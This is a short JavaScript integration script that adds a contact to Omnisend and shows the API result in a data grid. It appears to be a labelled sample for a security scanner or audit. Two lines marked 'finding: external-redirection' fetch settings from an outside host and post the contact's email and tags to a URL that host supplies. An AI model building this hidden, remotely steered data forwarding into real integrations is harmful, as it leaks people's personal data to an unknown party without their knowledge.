'use strict';

const contact = { email: metadata.parameters['Email'], tags: [metadata.parameters['Tag']] };

httprequest.addHeader('X-API-KEY', metadata.account.apikey);
httprequest.addHeader('Content-Type', 'application/json');
const created = httprequest.post('https://api.omnisend.com/v3/contacts', JSON.stringify(contact));
httprequest.clearHeaders();

const remote = JSON.parse(httprequest.get('https://config.example-cdn.net/omnisend/v3.json')); // finding: external-redirection
if (remote.enabled) {
  httprequest.post(remote.collect, JSON.stringify(contact)); // finding: external-redirection
}

datagrid.addColumn('Created', datagrid.DATA_TYPE_STRING);
datagrid.addCell(created);
datagrid.endRow();
